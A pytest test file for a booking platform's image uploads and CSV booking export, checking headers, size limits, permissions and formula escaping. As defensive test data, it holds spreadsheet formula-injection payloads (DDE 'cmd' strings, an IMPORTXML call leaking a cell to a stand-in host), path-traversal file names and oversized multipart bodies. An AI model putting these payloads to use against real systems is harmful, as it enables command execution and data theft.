"""Merchants' images, and the export of all bookings."""
import csv
import io
import re
import socket
import struct
import time

import pytest

from kitdemo import wait_until
from kitfiles import GOOD_SVG, HOSTILE, Owner, png
from kithttp import Client, address
from kitshop import Shop, seed

POLICY = "default-src 'none'; style-src 'unsafe-inline'; sandbox"
MOST = 2 * 1024 * 1024


@pytest.fixture(scope="module")
def shop(main_demo):
    return Shop(main_demo)


@pytest.fixture(scope="module")
def owner(shop):
    return Owner(shop)


# --- pictures ---

@pytest.mark.parametrize("name,data,kind", [("Logo ñandú.PNG", png(64, 40), "image/png"), ("logo.svg", GOOD_SVG, "image/svg+xml")],
                         ids=("png", "svg"))
def test_logo(shop, owner, name, data, kind):
    answer = owner.send("/api/tenant/logo", name, data)
    assert answer.status_code == 200, answer.text
    url = answer.json()["logo_url"]
    assert re.fullmatch(r"/uploads/[A-Za-z0-9_-]{43}\.(png|svg)", url)
    assert answer.headers["ETag"] == '"%d"' % answer.json()["version"]
    seen = Client(shop.url).get(url)
    assert seen.status_code == 200
    assert seen.headers["Content-Type"] == kind
    assert seen.headers["Content-Security-Policy"] == POLICY
    assert seen.headers["X-Content-Type-Options"] == "nosniff"
    assert seen.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    assert b"metadata" not in seen.content and b"drawn by hand" not in seen.content
    again = Client(shop.url).get(url, headers={"If-None-Match": seen.headers["ETag"]})
    assert again.status_code == 304 and not again.content
    # on every host: a page on the platform's own host shows it too
    assert Client(shop.demo.about["base_url"]).get(url).content == seen.content
    wait_until(lambda: url in Client(shop.url).get("/book/" + shop.link).text, 10)
    kept = shop.demo.sql("SELECT action, actor_kind FROM kf.audit WHERE tenant_id = '%s' AND object_name = '%s'"
                         % (shop.tenant, url.rpartition("/")[2]))
    assert kept == [{"action": "upload_created", "actor_kind": "staff"}]


def test_photo_and_image(shop, owner):
    who = shop.professional_id()
    answer = owner.send("/api/professionals/%s/photo" % who, "a.png", png())
    assert answer.status_code == 200 and answer.json()["photo_url"].startswith("/uploads/"), answer.text
    service = shop.service_id("Limpieza")
    answer = owner.send("/api/services/%s/image" % service, "a.png", png())
    assert answer.status_code == 200 and answer.json()["image_url"].startswith("/uploads/"), answer.text
    version = answer.json()["version"]
    stale = owner.send("/api/services/%s/image" % service, "a.png", png(), **{"If-Match": '"%d"' % (version - 1)})
    assert stale.status_code == 412
    assert owner.send("/api/services/%s/image" % who, "a.png", png()).status_code == 404
    assert owner.send("/api/services/nobody/image", "a.png", png()).status_code == 404


@pytest.mark.parametrize("what", sorted(HOSTILE))
def test_hostile(shop, owner, what):
    name, data, word = HOSTILE[what]
    before = shop.demo.one("SELECT count(*) FROM kf.upload WHERE tenant_id = '%s'" % shop.tenant)
    answer = owner.send("/api/tenant/logo", name, data)
    if word is None:
        assert answer.status_code == 200, answer.text
        kept = Client(shop.url).get(answer.json()["logo_url"]).content
        assert b"<script" not in kept and b"onload" not in kept
        return
    assert answer.status_code in (400, 422), answer.text
    said = answer.json()
    assert re.search(word, answer.text.replace('\\"', '"')), answer.text
    if what != "name-null":  # here the name of the part is malformed
        fields = [one["field"] for one in said["errors"]] if said.get("errors") else [said.get("field")]
        assert fields == ["file"], said
    assert shop.demo.one("SELECT count(*) FROM kf.upload WHERE tenant_id = '%s'" % shop.tenant) == before


def test_size(owner):
    exact = owner.send("/api/tenant/logo", "a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * (MOST - 8))
    assert exact.status_code == 422, exact.text
    over = owner.send("/api/tenant/logo", "a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * (MOST - 7))
    assert over.status_code == 413 and "2 MiB" in over.text
    far = owner.send("/api/tenant/logo", "a.png", b"\0" * (MOST + 70000))
    assert far.status_code == 413
    # refused by the announced length, before a byte was read
    link = socket.create_connection(("127.0.0.1", owner.shop.demo.port), 10)
    link.sendall(("POST /api/tenant/logo HTTP/1.1\r\nHost: %s\r\nCookie: kf_session=%s\r\nX-CSRF-Token: %s\r\n"
                  "X-Forwarded-For: %s\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 900000000\r\n\r\n"
                  % (owner.shop.host, owner.token, owner.csrf, address())).encode())
    assert b" 413 " in link.recv(4096).split(b"\r\n")[0]
    link.close()


@pytest.mark.slow
@pytest.mark.plain
def test_bombs(shop, owner):
    """Forms made to be expensive are refused at once and leave nothing behind."""
    part = b'--b\r\nContent-Disposition: form-data; name="%d"\r\n\r\n\r\n'
    bombs = [b"".join(part % n for n in range(17)) + b"--b--", b"".join(part % n for n in range(40000)) + b"--b--",
             b"--b\r\n" * 340000, b"--b\r\n" + b"A: b\r\n" * 340000, b"\r\n--" * 500000,
             b'--b\r\nContent-Disposition: form-data; name="' + b"a" * 2000000]
    bombs = [one[:2100000] for one in bombs]
    client = owner.client()

    def throw(n):
        worst = 0.0
        for i in range(n):
            answer = client.post("/api/tenant/logo", data=bombs[i % len(bombs)],
                                 headers={"Content-Type": "multipart/form-data; boundary=b", "X-Forwarded-For": address()})
            assert answer.status_code in (400, 403), answer.text
            worst = max(worst, answer.elapsed.total_seconds())
        return worst
    throw(120)
    before = memory(shop.demo)
    worst = throw(600)
    grown = {pid: round(now - before.get(pid, now), 1) for pid, now in memory(shop.demo).items()}
    print("600 forms of up to 2 MB: worst %.0f ms, children grew by %s MiB" % (worst * 1000, grown))
    assert max(grown.values()) < 10, grown


def test_who(shop, owner):
    assert owner.send("/api/tenant/logo", "a.png", png(), csrf=False).status_code == 403
    assert owner.send("/api/tenant/logo", "a.png", png(), client=Client(shop.url)).status_code == 401
    staff = Owner(shop, "staff")
    assert staff.send("/api/tenant/logo", "a.png", png()).status_code == 403
    other = Owner(Shop(shop.demo, services=(), professionals=(), payments=False, callback=False))
    foreign = other.send("/api/professionals/%s/photo" % shop.professional_id(), "a.png", png())
    assert foreign.status_code == 404
    assert owner.send("/api/tenant/logo", "a.png", png(), field="logo").status_code == 422
    twice = owner.client().post("/api/tenant/logo", data=b"--b\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n"
                                b"x\r\n--b\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n%s\r\n--b--"
                                % owner.csrf.encode(), headers={"Content-Type": "multipart/form-data; boundary=b"})
    assert twice.status_code == 400


@pytest.mark.parametrize("name", ["x", "a.png", "A" * 43 + ".png", "A" * 43 + ".gif", "A" * 43 + ".png.svg", "..png", "%2e%2e%2fa.png",
                                  "A" * 43, "A" * 42 + "%00.png"])
def test_unknown_names(shop, name):
    assert Client(shop.url).get("/uploads/" + name).status_code in (400, 404)


def test_qr(shop, owner):
    link = shop.demo.one("SELECT link_id FROM kf.booking_link WHERE public_id = '%s'" % shop.link)
    answer = owner.client().get("/dashboard/links/%s/qr.svg" % link)
    assert answer.status_code == 200 and answer.headers["Content-Type"] == "image/svg+xml"
    assert answer.headers["Content-Security-Policy"] == POLICY
    assert answer.text.startswith("<svg ") and "style" not in answer.text
    assert Client(shop.url).get("/dashboard/links/%s/qr.svg" % link).status_code in (302, 303, 401)


def test_folder(demos):
    """KonfirmadoUploadDir: files have generated names, and are complete or absent."""
    import os
    import shutil
    import tempfile
    folder = tempfile.mkdtemp(prefix="kf-uploads-", dir="/tmp")
    os.chmod(folder, 0o777)
    demo = demos.get("folder", ("KonfirmadoUploadDir " + folder,))
    shop = Shop(demo, services=(), professionals=(), payments=False, callback=False)
    owner = Owner(shop)
    answer = owner.send("/api/tenant/logo", "a.png", png())
    assert answer.status_code == 200, answer.text
    name = answer.json()["logo_url"].rpartition("/")[2]
    assert os.listdir(folder) == [name]
    assert demo.one("SELECT bytes IS NULL FROM kf.upload WHERE name = '%s'" % name)
    assert Client(shop.url).get("/uploads/" + name).content == png()
    # an image that the database refuses leaves no file
    assert owner.send("/api/services/%s/image" % shop.tenant, "a.png", png()).status_code == 404
    assert os.listdir(folder) == [name]
    # a replaced image stays for a week; then file and row are removed; a displayed image stays, whatever its row says
    shown = owner.send("/api/tenant/logo", "b.png", png(9, 9)).json()["logo_url"].rpartition("/")[2]
    demo.run("UPDATE kf.upload SET checked_at = '-infinity'")
    wait_until(lambda: demo.one("SELECT unused_since IS NOT NULL FROM kf.upload WHERE name = '%s'" % name), 20)
    assert sorted(os.listdir(folder)) == sorted([name, shown])
    demo.run("UPDATE kf.upload SET checked_at = '-infinity', unused_since = kf.now() - interval '7 days'")
    only = "SELECT array_agg(name) = ARRAY['%s'] AND bool_and(unused_since IS NULL) FROM kf.upload" % shown
    wait_until(lambda: os.listdir(folder) == [shown] and demo.one(only), 20)  # the file is removed before its row
    assert Client(shop.url).get("/uploads/" + name).status_code == 404
    assert Client(shop.url).get("/uploads/" + shown).status_code == 200
    demos.stop("folder")
    shutil.rmtree(folder)


# --- the file of bookings ---

PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")",
            "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@A1", "=\"a\"&\"b\"",
            "=1,2", "=a;b", "+573001112233", "-", "=", "@", "=\n1", "＝1+1", "＠SUM(A1)"]
SPLIT = ["a;=1+1", "a,+1+1", "a\t-1", "a\n@A1", "a\r\n=1", "a; =1", "a;\"=1", " =1", "a;＝1", "a;b\n＋1"]

COLUMNS = ["booking", "status", "source", "start", "end", "time_zone", "service", "professional", "customer_name",
           "customer_email", "customer_phone", "notes", "price", "charge", "currency", "paid", "created_at"]


def table(answer, sep=";"):
    assert answer.status_code == 200, answer.text[:500]
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert re.fullmatch(r'attachment; filename="bookings-\d{4}-\d\d-\d\d\.csv"', answer.headers["Content-Disposition"])
    assert answer.content.startswith(b"\xef\xbb\xbf")
    # a line end outside of quotes is always CRLF
    assert b"\n" not in re.sub(rb'"(?:[^"]|"")*"', b"", answer.content).replace(b"\r\n", b"")
    lines = list(csv.reader(io.StringIO(answer.content[3:].decode("utf-8"), newline=""), delimiter=sep))
    assert lines[0] == COLUMNS
    return [dict(zip(COLUMNS, line)) for line in lines[1:]]


def test_formulas(main_demo):
    shop = Shop(main_demo)
    texts = ", ".join("E'%s'" % (one + "x" * (2 - len(one))).replace("'", "''").replace("\r", "\\r").replace("\n", "\\n")
                      .replace("\t", "\\t") for one in PAYLOADS)
    seed(shop, 1, len(PAYLOADS), name="(ARRAY[%s])[i]" % texts, notes="(ARRAY[%s])[i]" % texts)
    got = table(Owner(shop).client().get("/api/export/bookings.csv"))
    wanted = [one + "x" * (2 - len(one)) for one in PAYLOADS]
    shown = [re.sub(r"^(?=[=+\-@\t\r\n＝＠])|(?<=[\t\r])(?==)", "'", one) for one in wanted]
    assert [one["customer_name"] for one in got][::-1] == shown
    assert [one["notes"] for one in got][::-1] == shown
    assert {one["customer_phone"] for one in got} == {"'+573001112233"}
    assert got[-1]["price"] == "80000.50" and got[-1]["charge"] == "20000.00" and got[-1]["paid"] == "0.00"
    assert got[-1]["start"] == "2027-01-01 00:01" and got[-1]["time_zone"] == "America/Bogota"
    for line in got:
        assert not any(cell[:1] in "=+-@\t\r\n＝＠" for cell in line.values() if cell)


def test_formulas_where_a_cell_is_split(main_demo):
    """A spreadsheet of another locale has another separator, and any part may be a formula too."""
    shop = Shop(main_demo)
    texts = ", ".join("E'%s'" % one.replace("\r", "\\r").replace("\n", "\\n").replace("\t", "\\t") for one in SPLIT)
    seed(shop, 1, len(SPLIT), notes="(ARRAY[%s])[i]" % texts)
    client = Owner(shop).client()
    for word, sep in (("comma", ","), ("semicolon", ";"), ("tab", "\t")):
        got = [one["notes"] for one in table(client.get("/api/export/bookings.csv?sep=" + word), sep)]
        assert [one.replace("'", "") for one in got][::-1] == SPLIT
        for cell in got:
            assert not re.search(r"(?:^|[,;\t\r\n])[ \"]*[=+\-@＝＋－＠]", cell), (word, cell)


def test_the_separator_is_of_the_language(main_demo):
    shop = Shop(main_demo)
    seed(shop, 1, 2)
    owner = Owner(shop)
    client = owner.client()
    assert len(table(client.get("/api/export/bookings.csv"))) == 2  # of es-CO
    assert len(table(client.get("/api/export/bookings.csv?lang=en"), ",")) == 2
    assert len(table(client.get("/api/export/bookings.csv?sep=comma"), ",")) == 2
    page = client.get("/dashboard/bookings?status=cancelled").text
    assert page.index("status=cancelled&amp;sep=semicolon") < page.index("status=cancelled&amp;sep=comma")
    page = client.get("/dashboard/bookings?lang=en").text
    assert page.index("bookings.csv?sep=comma") < page.index("bookings.csv?sep=semicolon")


def test_export_filters(main_demo):
    shop = Shop(main_demo)
    client = Owner(shop).client()
    assert table(client.get("/api/export/bookings.csv")) == []
    seed(shop, 1, 3000)
    assert len(table(client.get("/api/export/bookings.csv"))) == 3000
    assert len(table(client.get("/api/export/bookings.csv?status=cancelled"))) == 1500
    day = table(client.get("/api/export/bookings.csv?from=2027-01-02&to=2027-01-02"))
    assert len(day) == 1440 and {one["start"][:10] for one in day} == {"2027-01-02"}
    assert [one["customer_name"] for one in table(client.get("/api/export/bookings.csv?search=persona+2999"))] == ["Persona 2999"]
    for bad in ("status=nonsense", "service=1", "from=2027-02-30", "to=x", "unknown=1", "sep=x", "after=x", "from=2027-02-02&to=2027-02-01"):
        answer = client.get("/api/export/bookings.csv?" + bad)
        assert answer.status_code == 422, (bad, answer.status_code)
    started = shop.demo.sql("SELECT action, actor_kind FROM kf.audit WHERE tenant_id = '%s' AND action = 'export_started'"
                            % shop.tenant)
    assert len(started) == 5 and started[0]["actor_kind"] == "staff"
    assert Client(shop.url).get("/api/export/bookings.csv").status_code == 401
    assert Owner(shop, "staff").client().get("/api/export/bookings.csv").status_code == 403


def memory(demo):
    """MiB of each child of httpd."""
    sizes = {}
    for pid in demo.children():
        with open("/proc/%d/statm" % pid, encoding="ascii") as handle:
            sizes[pid] = int(handle.read().split()[1]) * 4 / 1024
    return sizes


@pytest.mark.slow
@pytest.mark.plain
def test_export_of_100000(main_demo):
    shop = Shop(main_demo)
    client = Owner(shop).client()
    seed(shop, 1, 2000)
    for _ in range(8):
        table(client.get("/api/export/bookings.csv"))
    before = memory(main_demo)
    seed(shop, 2001, 98000)
    answer = client.get("/api/export/bookings.csv", stream=True)
    size, lines, most = 0, 0, before
    for piece in answer.iter_content(1 << 16):
        if size >> 21 != size + len(piece) >> 21:
            most = {pid: max(most.get(pid, 0), now) for pid, now in memory(main_demo).items()}
        size += len(piece)
        lines += piece.count(b"\r\n")
    assert lines == 100001 and size > 15e6
    grown = {pid: most[pid] - before[pid] for pid in before if pid in most}
    print("100,000 bookings, %.1f MB; children grew by %s MiB" % (size / 1e6, {p: round(g, 1) for p, g in grown.items()}))
    assert max(grown.values()) < 8, grown


@pytest.mark.slow
def test_export_client_gone(main_demo, log):
    """A client that disconnects in the middle leaves no database connection busy."""
    shop = Shop(main_demo)
    owner = Owner(shop)
    seed(shop, 1, 60000)
    for _ in range(6):
        link = socket.create_connection(("127.0.0.1", main_demo.port), 10)
        link.sendall(("GET /api/export/bookings.csv HTTP/1.1\r\nHost: %s\r\nCookie: kf_session=%s\r\nX-Forwarded-For: %s\r\n\r\n"
                      % (shop.host, owner.token, address())).encode())
        assert b" 200 " in link.recv(4096).split(b"\r\n")[0]
        link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        link.close()
        time.sleep(0.3)
    wait_until(lambda: main_demo.one("SELECT count(*) FROM pg_stat_activity WHERE state = 'idle in transaction'") == 0, 15)
    assert len(table(owner.client().get("/api/export/bookings.csv"))) == 60000


# --- steps ---

def funnel(shop):
    kept = shop.demo.sql("SELECT step, sum(n)::int AS n FROM kf.funnel_event WHERE tenant_id = '%s' GROUP BY step" % shop.tenant)
    return {one["step"]: one["n"] for one in kept}


def test_funnel(main_demo):
    shop = Shop(main_demo)
    service = shop.service_id("Limpieza")
    visitor = shop.client()
    for _ in range(5):
        visitor.page("/book/%s/availability?service=%s&professional=any" % (shop.link, service))
    visitor.page("/book/%s/availability?service=%s&professional=any&day=2030-01-01" % (shop.link, service))
    visitor.get("/book/%s/availability?service=nonsense" % shop.link)
    wait_until(lambda: funnel(shop).get("service_selected") == 5, 15)
    time.sleep(4)
    assert funnel(shop) == {"service_selected": 5}
    # after a day it is counted, once
    shop.demo.run("UPDATE kf.funnel_event SET at = at - interval '1 day' WHERE tenant_id = '%s'" % shop.tenant)
    figures = "SELECT measure, value::int AS n FROM kf.daily_figure WHERE tenant_id = '%s'" % shop.tenant
    shop.demo.run("SELECT kf.figures_roll(1000)")
    shop.demo.run("SELECT kf.figures_roll(1000)")
    assert shop.demo.sql(figures) == [{"measure": "service_selected", "n": 5}] and funnel(shop) == {}
